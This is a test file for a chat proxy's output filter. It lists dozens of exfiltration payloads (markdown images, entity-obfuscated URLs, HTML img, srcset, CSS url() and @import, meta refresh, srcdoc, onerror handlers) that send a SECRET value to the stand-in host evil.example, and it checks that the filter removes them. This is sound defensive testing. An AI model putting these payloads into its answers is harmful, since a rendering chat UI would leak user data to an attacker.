// Exfiltration forms, judged by their outcome: the filtered answer is rendered the way a chat
// UI renders it (marked, and markdown-it with raw HTML and linkify), read by a browser's HTML
// parser, and no URL it would fetch (or, with links removed, link to) may leave the allowed
// hosts — for the whole answer (JSON) and for a stream split at every position.

import fc from 'fast-check';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { OutputPolicy, policyConfig } from '../../lib/stream/output-policy.js';
import { CHUNKINGS, completion, ownApp, readSse, sseStream } from '../helpers/filter.js';
import { violations } from '../helpers/render.js';
import { streamCut } from '../helpers/stream-text.js';

const ALLOW = ['ok.example'];
const EVIL = 'https://evil.example/x.png?q=SECRET';

function urlPolicy(links: boolean): OutputPolicy {
  return new OutputPolicy(
    policyConfig({
      scan: { injection: 'off', pii: 'off', secrets: 'off', normalize: false },
      urls: { allow: ALLOW, links },
      patterns: [],
      canary: false,
    }),
  );
}

/** Raw HTML the way markdown passes it through whole: an HTML block opened by `<div>`. */
const block = (html: string) => `<div>\n${html}\n</div>`;

/** Forms that fetch with no click: removed whatever `links` says. */
const FETCHES: Record<string, string> = {
  'markdown image': `Chart: ![a](${EVIL}) done`,
  'entity in the scheme': 'See ![a](https&#58;//evil.example/x.png?q=SECRET) here',
  'hex entity in the scheme': '![a](&#x68;ttps://evil.example/x.png?q=SECRET)',
  'named entities for slashes': '![a](https:&sol;&sol;evil.example/x.png?q=SECRET)',
  'backslash escape in the scheme': '![a](https\\://evil.example/x.png?q=SECRET)',
  'line break after the parenthesis': `![a](\n${EVIL})`,
  'spaces and a line break after the parenthesis': `![a](   \n   ${EVIL} "t")`,
  'reference definition, destination on the next line': `Look: ![a][r]\n\n[r]:\n${EVIL}\n`,
  'collapsed reference, angle-bracket definition': `![a][]\n\n[a]: <${EVIL}>\n`,
  'shortcut reference, indented definition with title': `![a]\n\n   [a]:   ${EVIL} 'title'\n`,
  'angle-bracket destination with a space': '![a](<https://evil.example/x y.png?q=SECRET>)',
  'title in double quotes': `![a](${EVIL} "title")`,
  'title without a space (marked)': `![a](${EVIL}"t")`,
  'protocol-relative destination': '![a](//evil.example/x.png?q=SECRET)',
  'alt text over two lines': `![a\nb](${EVIL})`,
  'nested brackets in the alt text': `![a [b] c](${EVIL})`,
  'image inside an allowed link': `[![a](${EVIL})](https://ok.example/)`,
  'allowed host as user info': '![a](https://ok.example@evil.example/x.png?q=SECRET)',
  'image in a blockquote': `> ![a](${EVIL})`,
  'image in a list item': `- item ![a](${EVIL})`,
  'balanced parentheses in the destination': '![a](https://evil.example/x.png?q=(SECRET))',
  'html img': `<img src="${EVIL}">`,
  'quoted > in an earlier attribute': `<img alt="a>b" src="${EVIL}">`,
  'quoted < in an earlier attribute (in an HTML block)': block(`<img alt='a<b' src=${EVIL}>`),
  'line breaks inside the tag (in an HTML block)': block(`<img\nalt="x"\nsrc="${EVIL}"\n>`),
  'tag longer than 2,048 characters': `<img alt="${'a'.repeat(2100)}" src="${EVIL}">`,
  'unclosed tag, closed by what the renderer writes next': `<div>\n<img src=${EVIL}\n\nNext paragraph.`,
  'slash as attribute separator (in an HTML block)': block(`<img/src="${EVIL}">`),
  'upper-case tag and attribute': `<IMG SRC="${EVIL}">`,
  'entity in an attribute scheme': '<img src="https&#58;//evil.example/x.png?q=SECRET">',
  'tab entity inside the scheme': '<img src="ht&Tab;tps://evil.example/x.png?q=SECRET">',
  'inline style url()': `<div style="background:url(${EVIL})">hi</div>`,
  'inline style with a CSS escape':
    '<span style="background-image:u\\72l(https://evil.example/x.png?q=SECRET)">x</span>',
  '<style> block url()': `<style>body{background:url('${EVIL}')}</style>`,
  '<style> block @import': '<style>@import "https://evil.example/x.css?q=SECRET";</style>',
  'table background': `<table background="${EVIL}"><tr><td>x</td></tr></table>`,
  'video poster': `<video poster="${EVIL}"></video>`,
  srcset: `<img srcset="https://ok.example/a.png 1x, ${EVIL} 2x">`,
  'object data': '<object data="https://evil.example/x.svg?q=SECRET"></object>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css?q=SECRET">',
  'meta refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/?q=SECRET">',
  'srcdoc with a tag': `<iframe srcdoc="<img src=${EVIL}>"></iframe>`,
  'srcdoc with entity-encoded markup': `<iframe srcdoc="&lt;img src=${EVIL}&gt;"></iframe>`,
  'svg image href': `<svg><image href="${EVIL}"/></svg>`,
  'svg image xlink:href': `<svg><image xlink:href="${EVIL}"/></svg>`,
  'input type=image': `<input type="image" src="${EVIL}">`,
  'base href moves relative images': '<base href="https://evil.example/">\n\n![a](x.png?q=SECRET)',
  'removed tag would join ! and a link': `!<img src="${EVIL}">[a](https://evil.example/y.png?q=SECRET)`,
  'removed tag would complete an entity': '![a](https&#5<img src=//evil.example/1>8;//evil.example/x.png?q=SECRET)',
  'removed tag would join a path into //host': '![a](/<img src=//evil.example/1>/evil.example/x.png?q=SECRET)',
  'removed tag would expose the next word as destination': `![a](<img src=//evil.example/1> ${EVIL})`,
  'event handler': `<img src="x.png" onerror="this.src='${EVIL}'">`,
};

/** Forms that fetch on a click: removed when links go. */
const LINKS: Record<string, string> = {
  'entity-encoded scheme': '[click](https&#58;//evil.example/?q=SECRET)',
  autolink: 'Visit <https://evil.example/?q=SECRET> now',
  'bare URL': 'see https://evil.example/?q=SECRET now',
  'bare www URL': 'see www.evil.example/?q=SECRET now',
  'html anchor': '<a href="https://evil.example/?q=SECRET">x</a>',
  'reference link': '[click][r]\n\n[r]: https://evil.example/?q=SECRET\n',
  'form action': '<form action="https://evil.example/"><button>go</button></form>',
};

/** Texts harmless as written whose pieces could join once a removal brings them together. */
const JOINS: Record<string, string> = {
  'removed link text would complete an entity':
    '![a](https&#5[8;](https://evil.example/)//evil.example/x.png?q=SECRET)',
  'removed bare URL would complete an entity': '![a](https&#5https://evil.example/8;//evil.example/x.png?q=SECRET)',
  'removed image would join ! and a link': '!![c](//evil.example/1)[a](https://evil.example/y.png?q=SECRET)',
};

/** Answers that must come out byte for byte. */
const CLEAN = [
  'The capital of France is Paris. It has about two million inhabitants.',
  'Here is the chart: ![chart](https://img.ok.example/c.png "Sales") and the [docs](https://ok.example/docs).',
  'A relative image ![logo](/static/logo.png) and a reference [guide][g].\n\n[g]: https://ok.example/guide\n',
  'In Java, use `List<String> names = new ArrayList<>();` and compare with `a < b`.',
  'Since x<y and y<z, we have x<z. Also 3 > 2.',
  '```html\n<div class="card"><b>Bold</b> <i>it</i></div>\n```',
  '<b>Note:</b> <span style="color: red; font-family: \'Segoe UI\'">careful</span>',
  'Use arr[i](x) to call the i-th function, and dict["k"]: v for a mapping.',
  '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo',
  'See https://ok.example/a?b=c and www.ok.example for more.',
  'Math: if a<b then c. Formula: f(x) = [x]^2 with [0, 1]: closed.',
  '<img src="https://cdn.ok.example/a.png" alt="allowed" srcset="/a.png 1x, /b.png 2x">',
];

describe('exfiltration forms, rendered as a chat UI renders them', () => {
  const cases = [
    ...Object.entries(FETCHES).map(([name, text]) => ({ name, text, linksOnly: false })),
    ...Object.entries(LINKS).map(([name, text]) => ({ name, text, linksOnly: true })),
  ];

  it('has at least 30 forms', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  for (const { name, text, linksOnly } of cases) {
    it(`${name}: reaches evil.example unfiltered, not once filtered (JSON and every split)`, () => {
      // The form is real: a renderer would reach the attacker's host.
      expect(violations(text, ALLOW, linksOnly).length).toBeGreaterThan(0);
      for (const links of linksOnly ? [true] : [false, true]) {
        const policy = urlPolicy(links);
        const whole = policy.whole(text).text;
        expect(violations(whole, ALLOW, links), whole).toEqual([]);
        // With links removed too, not even the text of the URL is left.
        if (links) expect(whole).not.toMatch(/evil\.example[^\s]*SECRET/);
        // Streamed, split at every position, and character by character.
        for (let k = 0; k <= text.length; k++) expect(streamCut(policy, text, [k])).toBe(whole);
        expect(
          streamCut(
            policy,
            text,
            [...text].map((_, i) => i),
          ),
        ).toBe(whole);
      }
    }, 120_000);
  }

  for (const [name, text] of Object.entries(JOINS)) {
    it(`${name}: nothing joins into a fetch (JSON and every split)`, () => {
      for (const links of [false, true]) {
        const policy = urlPolicy(links);
        const whole = policy.whole(text).text;
        expect(violations(whole, ALLOW, links), whole).toEqual([]);
        for (let k = 0; k <= text.length; k++) expect(streamCut(policy, text, [k])).toBe(whole);
      }
    });
  }

  for (const text of CLEAN) {
    it(`keeps a clean answer byte for byte: ${JSON.stringify(text.slice(0, 40))}`, () => {
      for (const links of [false, true]) {
        const policy = urlPolicy(links);
        expect(policy.whole(text).text).toBe(text);
        for (let k = 0; k <= text.length; k++) expect(streamCut(policy, text, [k])).toBe(text);
      }
    });
  }

  it('leaves nothing that fetches through filterOutput, JSON and streamed', async () => {
    const all = Object.values(FETCHES).join('\n\n');
    const opts = { urls: { allow: ALLOW } };
    const json = await request(ownApp(opts, { json: completion(all) }))
      .post('/chat')
      .send({});
    const content: string = json.body.choices[0].message.content;
    expect(violations(content, ALLOW, true)).toEqual([]);
    for (const chunking of [CHUNKINGS.bytes7!, CHUNKINGS.midLine!]) {
      const res = await request(ownApp(opts, { sse: sseStream(all, 3), chunking }))
        .post('/chat')
        .send({});
      expect(readSse(res.text).content).toBe(content);
    }
  });

  it("leaves nothing that fetches for random mixtures of the forms' pieces (property)", () => {
    const pieces = [
      '![a](',
      '[r]',
      '![a][r]',
      '](',
      ']:',
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '"',
      "'",
      '\\',
      '\n',
      '\n\n',
      ' ',
      'https://evil.example/x',
      'https&#58;//evil.example/x',
      '//evil.example/x',
      '&#x68;ttps://evil.example/x',
      'https://ok.example/a',
      'https://ok.example@evil.example/x',
      'x.png',
      '"t"',
      '&#58;',
      '&',
      '<img ',
      '<img src=',
      ' src=',
      'srcset=',
      '<div>\n',
      '</div>',
      '<a href=',
      '<svg><image href=',
      '<base href=',
      '<style>',
      '</style>',
      'url(',
      '@import ',
      ' style=',
      '<iframe srcdoc=',
      '&lt;img src=',
      '&gt;',
      ' onerror=',
      '<meta http-equiv=refresh content=0;url=',
      'www.evil.example',
      '<https://evil.example/a>',
    ];
    const text = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 24 }).map((p) => p.join(''));
    for (const links of [false, true]) {
      const policy = urlPolicy(links);
      fc.assert(
        fc.property(text, (t) => {
          const whole = policy.whole(t).text;
          expect(violations(whole, ALLOW, links), JSON.stringify(whole)).toEqual([]);
        }),
        { numRuns: 400 },
      );
    }
  });
});
